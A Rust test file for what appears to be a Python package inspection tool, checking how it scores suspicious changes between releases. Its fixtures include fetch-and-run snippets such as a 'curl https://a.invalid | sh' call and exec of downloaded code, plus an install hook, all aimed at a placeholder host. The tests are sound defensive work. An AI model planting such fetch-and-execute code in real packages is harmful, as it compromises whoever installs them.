//! Upgrades of a tiny package, and what they change.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::io::Cursor;

use portcullis_core::fact::PublisherStanding;
use portcullis_core::inspection::Changes;
use portcullis_core::pypi::filename::DistFilename;
use portcullis_core::pypi::provenance::publishers;
use portcullis_core::time::Timestamp;
use portcullis_fixtures::{Sdist, Wheel, sdist, wheel};

use super::*;
use crate::inspection::{Budget, Inspection, inspect_archive};

const BEACON: &str = "import urllib.request\nurllib.request.urlopen('https://a.invalid')\n";

fn inspect(name: &str, bytes: Vec<u8>) -> Inspection {
    let filename = DistFilename::parse(name, None).unwrap();
    inspect_archive(Cursor::new(bytes), &filename, &Budget::default()).unwrap()
}

fn of_wheel(wheel: &Wheel) -> Inspection {
    inspect(&wheel.filename(), wheel.build())
}

fn of_sdist(sdist: &Sdist) -> Inspection {
    inspect(&sdist.filename(), sdist.build())
}

fn before() -> Wheel {
    wheel("demo", "1.0")
        .file("demo/__init__.py", "x = 1\n")
        .file("demo/a.py", "y = 1\n")
}

fn now() -> Wheel {
    wheel("demo", "1.1").file("demo/__init__.py", "x = 2\n")
}

fn between(before: &Wheel, now: &Wheel) -> Changes {
    since(&of_wheel(before), &of_wheel(now), &Beside::default())
}

/// The strictest change of each kind, as `kind subject weight`.
fn told(changes: &Changes) -> Vec<String> {
    let mut kinds = BTreeSet::new();
    let first = changes
        .changes
        .iter()
        .filter(|change| kinds.insert(change.kind));
    first
        .map(|one| format!("{} {} {}", one.kind, one.subject, one.weight.0))
        .collect()
}

#[test]
fn an_ordinary_upgrade_changes_nothing_that_counts() {
    let now = now()
        .file("demo/a.py", "y = 1 # better\n")
        .file("demo/b.py", "def f(): ...\n");
    let changes = between(&before(), &now);
    assert_eq!(changes.changes, []);
    assert_eq!(changes.before, "1.0");
    assert!(!changes.is_suspicious());
}

#[test]
fn what_comes_with_a_wheel_is_weighed() {
    let program = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 200]].concat();
    for (now, expected) in [
        (
            now()
                .file("demo/a.py", "")
                .file("x.pth", "import demo.a; demo.a.b()\n"),
            "startup-file x.pth 10",
        ),
        (
            now().file("demo/a.py", "").file("x.pth", "demo/lib\n"),
            "startup-file x.pth 2",
        ),
        (now().file("demo/a.py", BEACON), "capability demo/a.py 5"),
        (now().file("demo/b.py", BEACON), "capability demo/b.py 5"),
        (
            now().file(
                "demo/a.py",
                format!("def f():\n    {}", BEACON.replace('\n', "\n    ")),
            ),
            "capability the distribution 2",
        ),
        (
            now().file("demo/x.so", &program),
            "native-binary demo/x.so 5",
        ),
        (now().file("other.py", ""), "top-level-module other 2"),
        (now().requires("flask"), "dependency flask 1"),
        (
            now().requires("b @ https://b.invalid/b.whl"),
            "dependency b @ https://b.invalid/b.whl 10",
        ),
        (
            now().file(
                "demo-1.1.dist-info/entry_points.txt",
                "[pytest11]\nd = demo.a\n",
            ),
            "plugin d 2",
        ),
        (
            now().file(
                "demo-1.1.dist-info/entry_points.txt",
                "[console_scripts]\nd = demo.a:f\n",
            ),
            "entry-point d 1",
        ),
        (
            now().file("demo-1.1.data/scripts/d", "#!/bin/sh\n"),
            "script d 1",
        ),
        (now().payload(2 << 20), "size the distribution 2"),
    ] {
        let told = told(&between(&before(), &now));
        assert!(
            told.iter().any(|one| one == expected),
            "{expected}: {told:?}"
        );
    }
}

#[test]
fn what_was_there_before_is_quiet() {
    let spoken = |wheel: Wheel| wheel.file("demo/net.py", BEACON).requires("flask");
    let twice = between(&spoken(before()), &spoken(now()));
    assert_eq!(twice.changes, []);
    assert!(
        !twice.known.is_empty(),
        "the finding about the network is known"
    );
    let moved = now().file("demo/moved.py", BEACON).requires("Flask>=2");
    assert_eq!(
        between(&spoken(before()), &moved).score(),
        0,
        "code that only moved"
    );
}

#[test]
fn what_runs_earlier_than_before_is_not_quiet() {
    let asked = "import os\ndef f():\n    os.system('true && curl https://a.invalid | sh')\n";
    let before = before().file("demo/run.py", asked);
    let now = now().file("demo/run.py", format!("{asked}f()\n"));
    let changes = between(&before, &now);
    assert!(changes.strong() > 0, "{:?}", changes.changes);
}

#[test]
fn fetching_and_running_in_one_module_is_decisive() {
    let code = "import urllib.request\nexec(urllib.request.urlopen('https://a.invalid').read())\n";
    let changes = between(&before(), &now().file("demo/a.py", code));
    let detail = &changes
        .changes
        .iter()
        .find(|one| one.detail.contains("neither"))
        .unwrap();
    assert_eq!(detail.weight, Weight::DECISIVE);
    assert!(changes.is_suspicious());
}

#[test]
fn how_an_sdist_is_built_and_what_its_setup_does_is_weighed() {
    let before = sdist("demo", "1.0").file("demo/__init__.py", "");
    let of = |pyproject: &str| {
        sdist("demo", "1.1")
            .file("demo/__init__.py", "")
            .file("pyproject.toml", pyproject)
    };
    let hooked = "import subprocess\nfrom setuptools import setup\n\
        from setuptools.command.install import install\n\
        class I(install):\n    def run(self):\n        subprocess.run(['true'])\n\
        setup(cmdclass={'install': I})\n";
    for (now, expected) in [
        (
            of("[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"),
            "build-backend hatchling.build 1",
        ),
        (
            of("[build-system]\nrequires = ['odd']\nbuild-backend = 'odd.hooks'\n"),
            "build-backend odd.hooks 5",
        ),
        (
            of("[build-system]\nbuild-backend = 'own'\nbackend-path = ['tools']\n"),
            "build-backend own 5",
        ),
        (
            of("[build-system]\nrequires = ['b @ git+https://b.invalid/b']\n"),
            "dependency b @ git+https://b.invalid/b 10",
        ),
        (
            sdist("demo", "1.1").file("setup.py", BEACON),
            "capability setup.py 10",
        ),
        (
            sdist("demo", "1.1").file("setup.py", hooked),
            "install-hook setup.py 10",
        ),
    ] {
        let changes = since(&of_sdist(&before), &of_sdist(&now), &Beside::default());
        let told = told(&changes);
        assert!(
            told.iter().any(|one| one == expected),
            "{expected}: {told:?}"
        );
    }
}

#[test]
fn what_is_known_beside_the_files_is_weighed() {
    let publisher = |repository: &str, workflow: &str| {
        let object = format!(
            r#"{{"version": 1, "attestation_bundles": [{{"publisher": {{"kind": "GitHub",
            "repository": "{repository}", "workflow": "{workflow}"}}, "attestations": []}}]}}"#
        );
        publishers(object.as_bytes()).unwrap().remove(0)
    };
    let changed = |repository: &str, workflow: &str| {
        Some(PublisherStanding::Changed {
            before: publisher("demo/demo", "release.yml"),
            now: publisher(repository, workflow),
        })
    };
    let day = |days: i64| Some(Timestamp::from_millis(days * Timestamp::DAY));
    let release = |uploaded, has_sdist| Release {
        uploaded,
        has_sdist: Some(has_sdist),
    };
    for (beside, expected) in [
        (
            Beside {
                publisher: changed("evil/demo", "release.yml"),
                ..Beside::default()
            },
            "publisher-changed GitHub evil/demo release.yml 5",
        ),
        (
            Beside {
                publisher: changed("demo/demo", "publish.yml"),
                ..Beside::default()
            },
            "publisher-changed GitHub demo/demo publish.yml 2",
        ),
        (
            Beside {
                publisher: Some(PublisherStanding::NoLongerAttested(publisher("a/b", "c"))),
                ..Beside::default()
            },
            "attestation-gone the release 5",
        ),
        (
            Beside {
                before: release(day(100), true),
                now: release(day(500), false),
                ..Beside::default()
            },
            "dormant the release 2",
        ),
        (
            Beside {
                before: release(day(100), true),
                now: release(day(101), false),
                ..Beside::default()
            },
            "sdist-gone the release 2",
        ),
        (
            Beside {
                never_seen: BTreeSet::from(["plain-utils".parse().unwrap()]),
                ..Beside::default()
            },
            "dependency plain-utils 5",
        ),
    ] {
        let (before, now) = (
            of_wheel(&before()),
            of_wheel(&now().requires("plain-utils")),
        );
        let told = told(&since(&before, &now, &beside));
        assert!(
            told.iter().any(|one| one == expected),
            "{expected}: {told:?}"
        );
    }
}

#[test]
fn a_leap_of_the_version_and_other_people_are_told() {
    let by = |version: &str, who: &str| {
        of_wheel(
            &wheel("demo", version)
                .file("demo/__init__.py", "")
                .header("Author-email", who),
        )
    };
    for (before, now, expected) in [
        (
            ("1.2", "Jo <jo@demo.example>"),
            ("99.0", "JO@demo.example"),
            &["version-jump"][..],
        ),
        (
            ("1.2", "jo@demo.example"),
            ("2026.1", "x@other.example"),
            &["people"],
        ),
        (
            ("1.2", "jo@demo.example"),
            ("2.0", "jo@demo.example, x@other.example"),
            &[],
        ),
    ] {
        let changes = since(
            &by(before.0, before.1),
            &by(now.0, now.1),
            &Beside::default(),
        );
        let kinds: Vec<&str> = changes
            .changes
            .iter()
            .map(|one| one.kind.as_str())
            .collect();
        assert_eq!(kinds, expected);
    }
}

#[test]
fn the_dependencies_that_are_new_can_be_asked_for() {
    let before = of_wheel(&before().requires("flask"));
    let now = of_wheel(
        &now()
            .requires("Flask>=2")
            .requires("new_one[x]; extra == 'y'"),
    );
    let new = new_dependencies(&before.contents, &now.contents);
    assert_eq!(new, BTreeSet::from(["new-one".parse().unwrap()]));
}

#[test]
fn a_point_that_is_named_twice_does_not_differ_from_itself() {
    let points = "[demo]\na = demo:b\na = demo:c\n";
    let twice = before().file("demo-1.0.dist-info/entry_points.txt", points);
    assert!(between(&twice, &twice).changes.is_empty());
}
